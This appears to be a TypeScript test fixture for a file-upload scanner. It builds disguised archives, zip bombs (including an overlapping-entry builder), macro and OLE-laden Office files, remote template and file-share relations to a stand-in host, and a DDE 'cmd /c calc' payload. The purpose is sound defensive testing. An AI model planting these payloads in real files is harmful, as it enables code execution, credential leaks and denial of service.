import { deflateRawSync } from "node:zlib";
import { type HostileFile, hostile } from "./hostile-scans";
import { officeFile, officeRelations } from "./office-files";
import { type ZipEntry, zipArchive } from "./zip-archive";

const zeros = (megabytes: number) => Buffer.alloc(megabytes * 1_000_000);
const xlsx = (entries: readonly ZipEntry[]) => () => officeFile("xlsx", { entries });
const docx = (entries: readonly ZipEntry[]) => () => officeFile("docx", { entries });
const start = (signature: string) => () => Buffer.concat([Buffer.from(signature, "hex"), Buffer.alloc(64)]);

/** Archives as such are never taken, whatever they are called. */
export const ARCHIVES: readonly HostileFile[] = [
  hostile("a zip archive", "材料.zip", () => zipArchive([{ name: "a.pdf", content: "a" }]), "type-not-allowed"),
  hostile("a zip archive called PDF", "材料.pdf", () => zipArchive([{ name: "a", content: "a" }]), "type-mismatch"),
  hostile("a zip archive called workbook", "表.xlsx", () => zipArchive([{ name: "a", content: "a" }]), "type-mismatch"),
  hostile("a 7z archive", "材料.7z", start("377abcaf271c"), "type-not-allowed"),
  hostile("a RAR archive", "材料.rar", start("526172211a0700"), "type-not-allowed"),
  hostile("a RAR archive called workbook", "表.xlsx", start("526172211a0700"), "type-mismatch"),
  hostile("a gzip file", "材料.gz", start("1f8b08"), "type-not-allowed"),
  hostile("a disk image called PDF", "材料.pdf", start("4344303031"), "type-mismatch"),
];

/** Archives of a few kilobytes that unfold into gigabytes, refused before anything is inflated. */
export const UNFOLDING: readonly HostileFile[] = [
  hostile(
    "a workbook that claims four gigabytes",
    "表.xlsx",
    xlsx([claims("xl/media/a.bin", 0xffff_fff0)]),
    "archive-bomb",
  ),
  hostile(
    "a text whose parts claim 30 × 10 MB",
    "文.docx",
    docx(many(30, (at) => claims(`word/media/${at}.bin`, 9_999_999))),
    "archive-bomb",
  ),
  hostile("a part denser than any table", "表.xlsx", xlsx([{ name: "xl/a.xml", content: zeros(12) }]), "archive-bomb"),
  hostile(
    "more parts than any text has",
    "文.docx",
    docx(many(2_001, (at) => ({ name: `word/${at}.xml`, content: "" }))),
    "archive-bomb",
  ),
  hostile("parts that share their bytes", "表.xlsx", () => sharedBytes(), "archive-bomb"),
  hostile("a list of parts that is longer than it says", "表.xlsx", () => lyingList(), "file-damaged"),
  hostile(
    "an archive inside the text",
    "文.docx",
    docx([{ name: "word/media/42.zip", content: "PK" }]),
    "office-embedded",
  ),
  hostile(
    "a text inside the text",
    "文.docx",
    docx([{ name: "word/embeddings/a.docx", content: "PK" }]),
    "office-embedded",
  ),
];

const OUTSIDE = (type: string, target: string) => officeRelations([{ type, target, external: true }]);

/** Office files that run, carry or fetch something. */
export const OFFICE: readonly HostileFile[] = [
  hostile("macros", "表.xlsx", xlsx([{ name: "xl/vbaProject.bin", content: "x" }]), "office-macro"),
  hostile(
    "macros declared under another name",
    "表.xlsx",
    () => officeFile("xlsx", { types: ["application/vnd.ms-office.vbaProject"] }),
    "office-macro",
  ),
  hostile(
    "a workbook of the kind with macros",
    "表.xlsx",
    () => officeFile("xlsx", { main: "application/vnd.ms-excel.sheet.macroEnabled.main+xml" }),
    "office-macro",
  ),
  hostile(
    "a text of the kind with macros, spelt in numbers",
    "文.docx",
    () => officeFile("docx", { main: "application/vnd.ms-word.document.&#109;acroEnabled.main+xml" }),
    "office-macro",
  ),
  hostile(
    "a program inside",
    "文.docx",
    docx([{ name: "word/embeddings/oleObject1.bin", content: "x" }]),
    "office-embedded",
  ),
  hostile(
    "a control inside",
    "表.xlsx",
    xlsx([{ name: "xl/activeX/activeX1.xml", content: "<a/>" }]),
    "office-embedded",
  ),
  hostile(
    "a program under an innocent name",
    "文.docx",
    () => officeFile("docx", { types: ["application/vnd.openxmlformats-officedocument.oleObject"] }),
    "office-embedded",
  ),
  hostile(
    "a template from elsewhere",
    "文.docx",
    docx([
      {
        name: "word/_rels/settings.xml.rels",
        content: OUTSIDE("attachedTemplate", "https://elsewhere.example/a.dotm"),
      },
    ]),
    "office-remote",
  ),
  hostile(
    "an object from elsewhere",
    "文.docx",
    docx([{ name: "word/_rels/document.xml.rels", content: OUTSIDE("oleObject", "https://elsewhere.example/a") }]),
    "office-remote",
  ),
  hostile(
    "a picture that tells who looks",
    "文.docx",
    docx([{ name: "word/_rels/document.xml.rels", content: OUTSIDE("image", "https://elsewhere.example/pixel.png") }]),
    "office-remote",
  ),
  hostile(
    "a share that is given the password's hash",
    "文.docx",
    docx([{ name: "word/_rels/settings.xml.rels", content: OUTSIDE("frame", "file://///elsewhere/share") }]),
    "office-remote",
  ),
  hostile(
    "a cell that starts a program",
    "表.xlsx",
    xlsx([
      {
        name: "xl/externalLinks/externalLink1.xml",
        content: '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
      },
    ]),
    "office-remote",
  ),
  hostile(
    "entities that multiply",
    "表.xlsx",
    xlsx([{ name: "xl/_rels/a.rels", content: '<!DOCTYPE a [<!ENTITY b "bb">]><a>&b;</a>' }]),
    "file-damaged",
  ),
  hostile(
    "two lists of parts",
    "表.xlsx",
    xlsx([{ name: "[content_types].xml", content: "<Types/>" }]),
    "file-damaged",
  ),
  hostile("a workbook called text", "文.docx", () => officeFile("xlsx"), "type-mismatch"),
  hostile("a workbook under a password", "表.xlsx", () => compoundFile("EncryptedPackage"), "office-encrypted"),
  hostile("an old workbook under a new name", "表.xlsx", () => compoundFile("Workbook"), "type-mismatch"),
  hostile("an old text", "文.doc", () => compoundFile("WordDocument"), "type-not-allowed"),
  hostile("a workbook with macros under its own name", "表.xlsm", () => officeFile("xlsx"), "type-not-allowed"),
  hostile("a web page called workbook", "表.xlsx", () => Buffer.from("<html><table>"), "type-mismatch"),
  hostile(
    "a workbook that the browser calls a web page",
    "表.xlsx",
    () => officeFile("xlsx"),
    "type-mismatch",
    "text/html",
  ),
  hostile("a workbook cut off", "表.xlsx", () => officeFile("xlsx").subarray(0, -30), "file-damaged"),
];

function claims(name: string, declaredSize: number): ZipEntry {
  return { name, content: "x", declaredSize };
}

function many(count: number, entry: (at: number) => ZipEntry): ZipEntry[] {
  return Array.from({ length: count }, (_, at) => entry(at));
}

/** A directory in which many entries point at the same packed bytes: each is bearable, all together are not. */
function sharedBytes(): Buffer {
  const packed = deflateRawSync(zeros(9));
  const whole = officeFile("xlsx", {
    entries: many(20, (at) => ({ name: `xl/${at}.bin`, content: at === 0 ? zeros(9) : "", declaredSize: 9_000_000 })),
  });
  const first = whole.indexOf("xl/0.bin") - 30;
  const sizes = Buffer.alloc(4);
  sizes.writeUInt32LE(packed.length);
  for (
    let at = whole.indexOf("PK\u0001\u0002", 0, "latin1");
    at >= 0;
    at = whole.indexOf("PK\u0001\u0002", at + 1, "latin1")
  ) {
    if (!/^xl\/\d+\.bin/.test(whole.toString("latin1", at + 46, at + 56))) continue;
    whole.writeUInt32LE(packed.length, at + 20);
    whole.writeUInt32LE(first, at + 42);
  }
  return whole;
}

/** The one part that is read at once says 900 bytes and holds 50 million. */
function lyingList(): Buffer {
  return zipArchive([{ name: "[Content_Types].xml", content: zeros(50), declaredSize: 900 }]);
}

function compoundFile(stream: string): Buffer {
  return Buffer.concat([Buffer.from("d0cf11e0a1b11ae1", "hex"), Buffer.alloc(504), Buffer.from(stream, "utf16le")]);
}
